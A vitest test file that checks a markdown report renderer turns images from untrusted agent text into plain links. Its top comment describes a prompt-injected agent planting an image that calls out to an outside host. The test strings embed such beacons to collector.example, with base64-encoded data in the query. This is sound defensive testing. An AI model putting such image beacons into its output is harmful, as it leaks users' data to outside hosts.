import { marked } from 'marked';
import { describe, expect, test } from 'vitest';
import { renderMarkdown } from '../../src/report/markdown.js';
import { makeDecision, makeReport, makeResult } from '../support/results.js';

/**
 * A prompt-injected desk could write `![x](https://host/p.png?d=<data>)`: a markdown viewer
 * fetches such an image as soon as report.md is opened — a beacon, or a way out for data.
 * Images from untrusted text become plain links (report.html's CSP already blocks them).
 */
const beacon = 'https://collector.example/p.png?d=c2VjcmV0';
const hostile = [
  'TREND',
  `Looks strong ![chart](${beacon}) today.`,
  '- ![ref-style][img]',
  `[img]: https://collector.example/q.png`,
  `<img src="${beacon}">`,
].join('\n');

describe('report.md never embeds an image from untrusted text', () => {
  test('inline, reference-style and HTML images in a desk report render as text or links', () => {
    const result = makeResult({
      reports: [makeReport('quant', { text: hostile })],
      decision: makeDecision({ rationale: `See ![x](${beacon}).`, keyRisks: [`![y](${beacon})`] }),
    });
    const markdown = renderMarkdown(result, { chartFile: 'chart.svg' });
    const html = marked.parse(markdown, { gfm: true, async: false });
    expect(html).not.toMatch(/<img[^>]*collector\.example/);
    // The link is still there to click, deliberately.
    expect(html).toContain(`<a href="${beacon}">chart</a>`);
    // Our own chart stays an image.
    expect(html).toMatch(/<img[^>]*src="chart\.svg"/);
  });
});
